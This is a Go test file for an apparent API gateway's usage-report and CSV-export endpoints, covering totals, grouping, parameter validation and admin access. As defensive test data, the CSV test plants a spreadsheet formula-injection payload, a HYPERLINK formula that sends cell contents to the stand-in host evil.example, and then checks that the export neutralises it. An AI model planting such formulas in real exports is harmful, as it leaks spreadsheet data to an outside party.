package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ownkey/ownkey"
)

func TestUsageReportEndpoint(t *testing.T) {
	eachBackend(t, func(t *testing.T, env map[string]string) {
		g, key, id := pricedGateway(t, env)
		for range 2 {
			if r := g.chatStatus(t, key); r.Status != 200 {
				t.Fatalf("chat: %d %s", r.Status, r.Body)
			}
		}
		g.usageRecords(t, id, 2)
		// Ledger entries with money, as billing writes them: yesterday and
		// today, through two providers.
		now := time.Now().UTC()
		yesterday := ownkey.UTCDay(now).Add(-time.Hour)
		rec := func(rid, provider, model string, at time.Time, prompt, completion int64) *ownkey.UsageRecord {
			return &ownkey.UsageRecord{RequestID: rid, AccountID: id, APIKeyID: 1, Provider: provider, ModelRequested: model,
				ModelServed: model, Status: 200, CreatedAt: at,
				Usage: ownkey.Usage{PromptTokens: prompt, CompletionTokens: completion, Source: ownkey.UsageFromProvider}}
		}
		storeLedgerRow(t, g, rec("l1", "openai", "gpt-4o", yesterday, 100, 10), 1_234_567, 61_729, true)
		storeLedgerRow(t, g, rec("l2", "openai", "gpt-4o", now, 200, 20), 2_000_000, 100_000, true)

		r := g.do("GET", "/api/v1/usage?group_by=provider", key, nil)
		if r.Status != 200 {
			t.Fatalf("usage: %d %s", r.Status, r.Body)
		}
		var report struct {
			Object    string
			AccountID int64 `json:"account_id"`
			From, To  time.Time
			GroupBy   string `json:"group_by"`
			Totals    map[string]any
			Data      []map[string]any
		}
		if err := json.Unmarshal(r.Body, &report); err != nil {
			t.Fatal(err)
		}
		// The default range: the 30 UTC days up to the end of today.
		end := ownkey.UTCDay(now).AddDate(0, 0, 1)
		if report.Object != "usage" || report.AccountID != id || !report.To.Equal(end) || !report.From.Equal(end.AddDate(0, 0, -30)) || report.GroupBy != "provider" {
			t.Fatalf("report: %s", r.Body)
		}
		// Two chat requests (21 prompt, 4 completion, 5 cached tokens each,
		// settled by the ledger at 37,000 n$ at cost and 1,850 n$ charged
		// each: dollarPerMTok) and the two entries above.
		wantTotals := map[string]any{"requests": 4.0, "prompt_tokens": 342.0, "completion_tokens": 38.0, "cached_tokens": 10.0,
			"cache_write_tokens": 0.0, "reasoning_tokens": 0.0, "at_cost_usd": "0.003308567", "charged_usd": "0.000165429"}
		if fmt.Sprint(report.Totals) != fmt.Sprint(wantTotals) {
			t.Fatalf("totals %v\nwant %v", report.Totals, wantTotals)
		}
		if len(report.Data) != 2 || report.Data[0]["provider"] != "groq" || report.Data[0]["requests"] != 2.0 || report.Data[0]["charged_usd"] != "0.000003700" ||
			report.Data[1]["provider"] != "openai" || report.Data[1]["at_cost_usd"] != "0.003234567" || report.Data[1]["day"] != nil {
			t.Fatalf("buckets: %s", r.Body)
		}
		// By day: yesterday's entry apart.
		r = g.do("GET", "/api/v1/usage?group_by=day&from="+yesterday.Format(time.DateOnly)+"&to="+now.Format(time.DateOnly), key, nil)
		if err := json.Unmarshal(r.Body, &report); err != nil || len(report.Data) != 2 ||
			report.Data[0]["day"] != yesterday.Format(time.DateOnly) || report.Data[0]["charged_usd"] != "0.000061729" ||
			report.Data[1]["day"] != now.Format(time.DateOnly) || report.Data[1]["requests"] != 3.0 {
			t.Fatalf("by day: %d %s", r.Status, r.Body)
		}
		// A time range that leaves yesterday out.
		r = g.do("GET", "/api/v1/usage?group_by=model&from="+ownkey.UTCDay(now).Format(time.RFC3339), key, nil)
		if err := json.Unmarshal(r.Body, &report); err != nil || report.Totals["requests"] != 3.0 || len(report.Data) != 2 ||
			report.Data[0]["model"] != "gpt-4o" || report.Data[1]["model"] != "llama-3.3-70b-versatile" {
			t.Fatalf("by model since today: %d %s", r.Status, r.Body)
		}

		// Parameters are checked, naming the one at fault.
		adminID := int64(1)
		for _, tc := range []struct {
			query  string
			status int
			param  string
		}{
			{"group_by=week", 400, "group_by"},
			{"from=yesterday", 400, "from"},
			{"to=2025-02-30", 400, "to"},
			{"from=2025-03-02&to=2025-03-01", 400, "from"},
			{"from=2025-03-01T00:00:00Z&from=2025-03-02T00:00:00Z", 400, "from"},
			{"groupby=day", 400, "groupby"},
			{"account_id=abc", 400, "account_id"},
			{"account_id=" + itoa(adminID), 403, "account_id"},
		} {
			r := g.do("GET", "/api/v1/usage?"+tc.query, key, nil)
			if _, _, _, param := errorOf(t, r); r.Status != tc.status || param != tc.param {
				t.Errorf("?%s: %d %s; want %d naming %s", tc.query, r.Status, r.Body, tc.status, tc.param)
			}
		}
		// An unknown parameter that holds a key is not echoed.
		r = g.do("GET", "/api/v1/usage?"+groqKey+"=1", key, nil)
		if r.Status != 400 || strings.Contains(string(r.Body), groqKey) {
			t.Fatalf("unknown parameter shaped like a key: %d %s", r.Status, r.Body)
		}
		// An account may name itself; an admin may name any account.
		if r := g.do("GET", "/api/v1/usage?account_id="+itoa(id), key, nil); r.Status != 200 {
			t.Fatalf("own account_id: %d %s", r.Status, r.Body)
		}
		r = g.do("GET", "/api/v1/usage?account_id="+itoa(id), g.adminKey, nil)
		if err := json.Unmarshal(r.Body, &report); err != nil || r.Status != 200 || report.AccountID != id || report.Totals["requests"] != 4.0 {
			t.Fatalf("admin reading the account: %d %s", r.Status, r.Body)
		}
		if r := g.do("GET", "/api/v1/usage?account_id=99999", g.adminKey, nil); r.Status != 404 {
			t.Fatalf("admin naming no account: %d %s", r.Status, r.Body)
		}
		if r := g.do("GET", "/api/v1/usage", g.adminKey, nil); r.Status != 200 || !strings.Contains(string(r.Body), `"requests":0`) {
			t.Fatalf("admin's own usage: %d %s", r.Status, r.Body)
		}
	})
}

func TestUsageExportCSV(t *testing.T) {
	eachBackend(t, func(t *testing.T, env map[string]string) {
		g, key, id := pricedGateway(t, env)
		// A key name and a model id a spreadsheet would run as formulas.
		r := g.do("POST", "/api/user/api-keys", key, map[string]any{"name": "@SUM(A1:A9)"}, true)
		var k struct{ ID int64 }
		_ = json.Unmarshal(r.Body, &k)
		day := ownkey.UTCDay(time.Now()).AddDate(0, 0, -2)
		const n = 700 // more than the rows between two flushes
		recs := make([]*ownkey.UsageRecord, n)
		for i := range recs {
			recs[i] = &ownkey.UsageRecord{RequestID: fmt.Sprintf("req-%04d", i), AccountID: id, APIKeyID: k.ID, Provider: "openai",
				ModelRequested: "gpt-4o", ModelServed: "gpt-4o-2024-08-06", Status: 200, CreatedAt: day.Add(time.Duration(i) * time.Second),
				Usage: ownkey.Usage{PromptTokens: int64(i), CompletionTokens: 3, Source: ownkey.UsageFromProvider}}
		}
		recs[5].ModelRequested = `=HYPERLINK("http://evil.example/?"&A1,"click")`
		recs[6].ModelRequested = " -2+3"
		recs[6].ErrorCode = "upstream_error"
		if err := g.app.usageStore.InsertUsage(context.Background(), recs[:6]); err != nil {
			t.Fatal(err)
		}
		recs[6].TTFB, recs[6].UpstreamLatency = 1234567*time.Microsecond, 2*time.Second
		storeLedgerRow(t, g, recs[6], 123_456_789, 6_172_840, true)
		if err := g.app.usageStore.InsertUsage(context.Background(), recs[7:]); err != nil {
			t.Fatal(err)
		}

		req, _ := http.NewRequest("GET", g.srv.URL+"/api/v1/usage/export?format=csv&from="+day.Format(time.DateOnly), nil)
		req.Header.Set("Authorization", "Bearer "+key)
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		if res.StatusCode != 200 || res.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
			!strings.HasPrefix(res.Header.Get("Content-Disposition"), `attachment; filename="ownkey-usage-`) {
			t.Fatalf("export: %d %v", res.StatusCode, res.Header)
		}
		// Streamed: written in parts as rows are read, so no length is
		// known up front.
		if res.ContentLength != -1 || !slices.Contains(res.TransferEncoding, "chunked") {
			t.Fatalf("export has Content-Length %d, Transfer-Encoding %v: it was buffered whole", res.ContentLength, res.TransferEncoding)
		}
		rows, err := csv.NewReader(res.Body).ReadAll()
		if err != nil {
			t.Fatalf("export does not parse as CSV: %v", err)
		}
		header := strings.Join(rows[0], ",")
		if header != "request_id,created_at,account_id,account_name,api_key_id,api_key_name,provider,model_requested,model_served,"+
			"prompt_tokens,cached_tokens,cache_write_tokens,completion_tokens,reasoning_tokens,usage_source,"+
			"at_cost_usd,markup_rate,charged_usd,is_byok,price_basis,status,error_code,stream,client_disconnected,ttfb_ms,upstream_latency_ms" {
			t.Fatalf("header: %s", header)
		}
		if len(rows) != n+1 {
			t.Fatalf("%d rows; want %d and the header", len(rows)-1, n)
		}
		col := map[string]int{}
		for i, h := range rows[0] {
			col[h] = i
		}
		cell := func(row int, name string) string { return rows[row+1][col[name]] }
		// Oldest first, every record once.
		for i := range n {
			if cell(i, "request_id") != fmt.Sprintf("req-%04d", i) || cell(i, "prompt_tokens") != fmt.Sprint(i) {
				t.Fatalf("row %d: %v", i, rows[i+1])
			}
		}
		// Cells a spreadsheet would run are defused; the rest as stored.
		if cell(5, "model_requested") != `'=HYPERLINK("http://evil.example/?"&A1,"click")` || cell(6, "model_requested") != "' -2+3" ||
			cell(0, "api_key_name") != "'@SUM(A1:A9)" || cell(0, "model_requested") != "gpt-4o" {
			t.Fatalf("formula cells: %q %q %q", cell(5, "model_requested"), cell(6, "model_requested"), cell(0, "api_key_name"))
		}
		want := map[string]string{
			"created_at": day.Add(6 * time.Second).Format("2006-01-02T15:04:05.000000Z"), "account_id": itoa(id), "account_name": "dev",
			"api_key_id": itoa(k.ID), "provider": "openai", "model_served": "gpt-4o-2024-08-06", "completion_tokens": "3",
			"cached_tokens": "0", "usage_source": "provider", "at_cost_usd": "0.123456789", "markup_rate": "0.050000",
			"charged_usd": "0.006172840", "is_byok": "true", "price_basis": "catalog", "status": "200", "error_code": "upstream_error",
			"stream": "false", "client_disconnected": "false", "ttfb_ms": "1234.567", "upstream_latency_ms": "2000.000",
		}
		for name, v := range want {
			if got := cell(6, name); got != v {
				t.Errorf("row 6 %s = %q; want %q", name, got, v)
			}
		}
		if cell(0, "at_cost_usd") != "0.000000000" || cell(0, "is_byok") != "false" || cell(0, "markup_rate") != "0.000000" {
			t.Errorf("row 0 money: %v", rows[1])
		}

		for _, tc := range []struct{ query, param string }{
			{"format=json", "format"}, {"from=2025-13-01", "from"}, {"group_by=day", "group_by"},
		} {
			r := g.do("GET", "/api/v1/usage/export?"+tc.query, key, nil)
			if _, _, _, param := errorOf(t, r); r.Status != 400 || param != tc.param {
				t.Errorf("export ?%s: %d %s; want 400 naming %s", tc.query, r.Status, r.Body, tc.param)
			}
		}
		// Another account's export is the admin's to read.
		if r := g.do("GET", "/api/v1/usage/export?account_id=1", key, nil); r.Status != 403 {
			t.Fatalf("export of another account: %d", r.Status)
		}
		res2, err := http.DefaultClient.Do(func() *http.Request {
			req, _ := http.NewRequest("GET", g.srv.URL+"/api/v1/usage/export?account_id="+itoa(id)+"&from="+day.Format(time.DateOnly), nil)
			req.Header.Set("Authorization", "Bearer "+g.adminKey)
			return req
		}())
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(res2.Body)
		res2.Body.Close()
		if res2.StatusCode != 200 || strings.Count(string(b), "\n") != n+1 {
			t.Fatalf("admin export: %d, %d lines", res2.StatusCode, strings.Count(string(b), "\n"))
		}
	})
}
